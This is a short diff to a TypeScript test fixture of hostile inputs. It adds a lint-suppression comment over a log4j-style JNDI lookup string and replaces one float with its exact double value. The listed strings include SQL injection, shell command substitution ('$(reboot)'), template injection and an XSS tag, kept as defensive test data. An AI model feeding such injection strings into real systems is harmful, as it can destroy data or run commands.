@@ -85,6 +85,7 @@ export const NASTY_STRINGS: readonly string[] = [
   '"; DROP TABLE users; --',
   '$(reboot)',
   '`id`',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, on purpose
   '${jndi:ldap://x/a}',
   '{{7*7}}',
   '<script>alert(1)</script>',
@@ -139,7 +140,7 @@ export const NASTY_NUMBERS: readonly number[] = [
   Number.MIN_VALUE,
   1e21,
   1e-7,
-  123456789.123456789,
+  123456789.12345679,
 ];
 
 /** Decimal-looking strings the contract refuses (and a few edge ones it accepts). */
